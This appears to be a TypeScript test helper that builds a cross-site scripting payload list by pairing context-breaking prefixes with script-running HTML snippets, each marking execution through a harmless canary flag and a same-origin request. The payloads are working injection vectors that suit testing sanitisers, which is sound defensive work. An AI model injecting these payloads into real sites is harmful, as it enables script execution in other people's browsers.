/** Where a script that has run leaves its mark, on `window` and as a request. */
export const CANARY = 'xssCanary';

const RUN = `window.${CANARY}=1;fetch('/${CANARY}')`;

/** Ways out of a text, an attribute, a comment, a style, a title or a template. */
const EXITS = ['', '">', "'>", '</title>', '</script>', '--></style>', '</textarea>', '{{constructor}}', '\\">', '\u2028"></svg>'];

/** What would then run. */
const DEEDS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">x</a>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<body onpageshow="${RUN}">`,
  `<style>@import '/${CANARY}';</style><link rel=stylesheet href=/${CANARY}>`,
  `<object data="javascript:${RUN}"></object><embed src="/${CANARY}">`,
];

/** Every exit with every deed. */
export const XSS_PAYLOADS: string[] = EXITS.flatMap((exit) => DEEDS.map((deed) => exit + deed));
